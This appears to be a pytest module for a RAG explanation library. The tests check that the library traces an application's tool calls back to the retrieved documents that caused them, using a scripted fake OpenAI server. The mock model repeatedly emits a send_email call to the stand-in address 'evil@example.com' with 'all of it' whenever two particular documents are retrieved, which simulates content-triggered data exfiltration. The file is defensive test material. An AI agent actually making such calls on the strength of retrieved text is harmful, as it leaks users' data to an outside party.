"""Tool calls of applications that use the official OpenAI client, over a real socket: chat completions
and responses, sync and async, whole and streamed."""

import json
from collections.abc import Callable, Generator, Iterator
from contextlib import contextmanager
from typing import Any

import httpx
import pytest
from openai import AsyncOpenAI
from plain_rag_rule_explainer import RuleExplainer, tool

from rag_rule_explainer import (
    Answer,
    BaselineFailed,
    Explanation,
    InvalidInput,
    ToolCall,
    calls_in_order,
    calls_tool,
    contains,
    next_call,
    number_of_calls,
)
from tests.integrations.known import blames_b_and_d, retention, sets, shown_in
from tests.integrations.plain.models import NO_CERTIFICATES, client_of
from tests.integrations.plain.zoo.shapes import QUESTION, Index, shown, user
from tests.integrations.responses_server import responses_server
from tests.support.completions import Completion
from tests.support.messages import Body
from tests.support.openai_server import OpenAIServer

pytestmark = pytest.mark.waits

EVIL = {"to": "evil@example.com", "text": "all of it"}
TOOLS: Any = [{"type": "function", "function": {"name": "send_email", "parameters": {}}}]
SENDS = calls_tool("send_email", to=contains("evil"))


def call(name: str, arguments: Any, identity: str = "1") -> dict[str, Any]:
    written = arguments if isinstance(arguments, str) else json.dumps(arguments)
    return {"id": identity, "type": "function", "function": {"name": name, "arguments": written}}


def obeying(body: Body) -> Completion:
    """Sends a mail where b and d are shown, and looks first where it was told so; then says so."""
    messages = body["messages"]
    text = "\n".join(str(each.get("content")) for each in messages)
    results = sum(each["role"] == "tool" for each in messages)
    if "Look first" in text and not results:
        return Completion(None, "tool_calls", (call("look", {}),))
    if {"b", "d"} <= set(shown_in(text)) and results < (2 if "Look first" in text else 1):
        return Completion(None, "tool_calls", (call("send_email", EVIL, "2"),))
    return Completion("All is done.")


@pytest.fixture(scope="module")
def base_url() -> Iterator[str]:
    with OpenAIServer(obeying) as server:
        yield server.base_url


@contextmanager
def asked_for(base_url: str) -> Generator[Any]:
    with client_of(base_url) as client:
        yield client


def whole(create: Callable[..., Any], **asked: Any) -> str:
    return create(**asked).choices[0].message.content or ""


def streamed(create: Callable[..., Any], **asked: Any) -> str:
    chunks = create(**asked, stream=True)
    return "".join(each.choices[0].delta.content or "" for each in chunks if each.choices)


class TestTheNextAction:
    @pytest.mark.spread(fast="each")
    @pytest.mark.parametrize("ask", [whole, streamed])
    @pytest.mark.parametrize(
        "predicate", [SENDS, next_call("send_email"), number_of_calls(at_least=1)], ids=str
    )
    def test_of_chat_completions(self, base_url: str, ask: Any, predicate: Any) -> None:
        index = Index()
        with asked_for(base_url) as client:

            def application(question: str) -> str:
                content = user(shown(index.search(question), question))
                return ask(client.chat.completions.create, model="m", messages=content, tools=TOOLS)

            explanation = RuleExplainer(application, predicate).explain(QUESTION)
        assert blames_b_and_d(explanation)
        assert explanation.baseline.calls == (ToolCall("send_email", EVIL, 1),)
        assert explanation.baseline.finish_reason == "tool_calls"

    @pytest.mark.spread(fast=2)
    @pytest.mark.parametrize("is_streamed", [False, True])
    async def test_of_async_chat_completions(self, base_url: str, is_streamed: bool) -> None:
        index = Index()
        http = httpx.AsyncClient(verify=NO_CERTIFICATES)
        async with AsyncOpenAI(
            base_url=base_url, api_key="none", max_retries=0, http_client=http
        ) as client:

            async def application(question: str) -> str:
                asked: Any = {"model": "m", "messages": user(shown(index.search(question), question))}
                if not is_streamed:
                    reply = await client.chat.completions.create(**asked, tools=TOOLS)
                    return reply.choices[0].message.content or ""
                chunks = await client.chat.completions.create(**asked, tools=TOOLS, stream=True)
                return "".join(
                    [each.choices[0].delta.content or "" async for each in chunks if each.choices]
                )

            explanation = await RuleExplainer(application, SENDS).aexplain(QUESTION)
        assert blames_b_and_d(explanation)

    @pytest.mark.spread(fast=2)
    @pytest.mark.parametrize("is_streamed", [True, False])
    def test_of_responses(self, is_streamed: bool) -> None:
        index = Index()

        def says(prompt: str) -> tuple[str, str]:
            return ("", "function_call") if {"b", "d"} <= set(shown_in(prompt)) else ("No.", "completed")

        with responses_server(says) as base_url, asked_for(base_url) as client:

            def application(question: str) -> str:
                content = shown(index.search(question), question)
                if not is_streamed:
                    return client.responses.create(model="m", input=content).output_text
                events = client.responses.create(model="m", input=content, stream=True)
                return "".join(e.delta for e in events if e.type == "response.output_text.delta")

            explanation = RuleExplainer(application, calls_tool("look")).explain(QUESTION)
        assert blames_b_and_d(explanation)
        assert explanation.baseline.calls == (ToolCall("look", {}, 1),)

    def test_is_no_answer_to_a_condition_about_text(self, base_url: str) -> None:
        index = Index()
        with asked_for(base_url) as client:

            def application(question: str) -> Any:
                content = user(shown(index.search(question), question))
                return client.chat.completions.create(model="m", messages=content, tools=TOOLS)

            with pytest.raises(BaselineFailed, match="calls a tool, where an answer was due"):
                RuleExplainer(application, contains("done")).explain(QUESTION)
            both = RuleExplainer(application, SENDS | contains("done")).explain(QUESTION)
            reasons = {
                each.reason
                for each in RuleExplainer(application, contains("done"), omission_predicate=~SENDS)
                .explain(QUESTION)
                .unresolved
            }
        assert retention(both) == sets("")
        assert any("only a tool call" in each for each in reasons)

    def test_is_shown_where_an_answer_is(self, base_url: str) -> None:
        index = Index()
        with asked_for(base_url) as client:

            def application(question: str) -> Any:
                content = user(shown(index.search(question), question))
                return client.chat.completions.create(model="m", messages=content, tools=TOOLS)

            explanation = RuleExplainer(application, SENDS).explain(QUESTION)
        sent = 'calls send_email(to="evil@example.com", text="all of it")'
        assert f"Answer: {sent}" in explanation.report("text")
        assert "calls send" in explanation.report("markdown")
        back = Explanation.model_validate_json(explanation.model_dump_json())
        assert back.baseline.calls == explanation.baseline.calls
        assert [each.answers[0].calls for each in back.probes] == [
            each.answers[0].calls for each in explanation.probes
        ]


def agent_of(client: Any, index: Index, look: Any, send_email: Any) -> Callable[[str], str]:
    """An application that calls tools until the model has no further call."""

    def answered(question: str) -> str:
        messages = user(shown(index.search(question), question))
        while True:
            reply = client.chat.completions.create(model="m", messages=messages, tools=TOOLS)
            message = reply.choices[0].message
            if not message.tool_calls:
                return message.content or ""
            messages.append(message.model_dump(exclude_none=True))
            for each in message.tool_calls:
                function: Any = {"look": look, "send_email": send_email}[each.function.name]
                result = function(**json.loads(each.function.arguments))
                messages.append({"role": "tool", "tool_call_id": each.id, "content": result})

    return answered


class TestTheWholeRun:
    @staticmethod
    def explained(base_url: str, predicate: Any, question: str = "Look first. Why?") -> Explanation:
        index, ran = Index(), list[str]()

        @tool
        def look() -> str:
            ran.append("look")
            return "nothing to be seen"

        @tool
        def send_email(to: str, text: str) -> str:
            return f"sent to {to}: {text}"

        with asked_for(base_url) as client:
            application = agent_of(client, index, look, send_email)
            return RuleExplainer(application, predicate).explain(question)

    @pytest.mark.spread(fast=2)
    @pytest.mark.parametrize(
        "predicate",
        [
            SENDS,
            calls_in_order("look", "send_email"),
            number_of_calls(at_least=2),
            number_of_calls("send_email", at_least=1),
        ],
        ids=str,
    )
    def test_what_it_calls(self, base_url: str, predicate: Any) -> None:
        explanation = self.explained(base_url, predicate)
        assert blames_b_and_d(explanation)
        assert explanation.baseline.calls == (ToolCall("look", {}, 1), ToolCall("send_email", EVIL, 2))

    def test_what_it_calls_first(self, base_url: str) -> None:
        assert retention(self.explained(base_url, next_call("look"))) == sets("")

    def test_text_and_calls_together(self, base_url: str) -> None:
        assert blames_b_and_d(self.explained(base_url, contains("done") & SENDS))


class TestReplaysOfTools:
    def test_marked_tools_do_not_run_again(self, base_url: str) -> None:
        ran = list[str]()

        def look() -> str:
            ran.append("look")
            return f"nothing but {len(ran)}"

        def send_email(to: str, text: str) -> str:
            ran.append(f"{to}: {text}")
            return f"sent as {len(ran)}"

        with asked_for(base_url) as client:
            application = agent_of(client, Index(), tool(look), tool(send_email))
            assert blames_b_and_d(RuleExplainer(application, SENDS).explain("Look first. Why?"))
        assert ran == ["look", "evil@example.com: all of it"]

    def test_tools_that_are_not_marked_are_refused_by_name(self, base_url: str) -> None:
        def look() -> str:
            return "nothing"

        def send_email(to: str, text: str) -> str:
            return f"sent to {to}: {text}"

        with asked_for(base_url) as client:
            application = agent_of(client, Index(), look, send_email)
            with pytest.raises(InvalidInput, match=r"would run 'look', 'send_email' again.* put @tool"):
                RuleExplainer(application, SENDS).explain("Look first. Why?")
            safe = RuleExplainer(application, SENDS, safe_tools=["look", "send_email"])
            assert blames_b_and_d(safe.explain("Look first. Why?"))


def test_a_run_without_a_recorded_model_has_no_known_calls() -> None:
    index = Index()

    def application(question: str) -> str:
        return f"nothing of {len(index.search(question))}"

    explanation = RuleExplainer(application, ~calls_tool()).explain(QUESTION)
    assert explanation.baseline.calls is None
    assert any("were not recorded" in each for each in explanation.warnings)
    assert not explanation.retention_rules
    assert not explanation.omission_rules


def test_an_answer_with_calls_of_ones_own_is_believed() -> None:
    index = Index()

    def application(question: str) -> Answer:
        found = {each["id"] for each in index.search(question)}
        return Answer("done", calls=(ToolCall("pay"),) if {"b", "d"} <= found else ())

    assert blames_b_and_d(RuleExplainer(application, calls_tool("pay")).explain(QUESTION))


def test_calls_that_are_none_are_refused() -> None:
    with pytest.raises(InvalidInput, match="calls of an Answer is"):
        # A mistake, on purpose.
        Answer.of(Answer("x", calls=("pay",)))  # pyright: ignore[reportArgumentType]
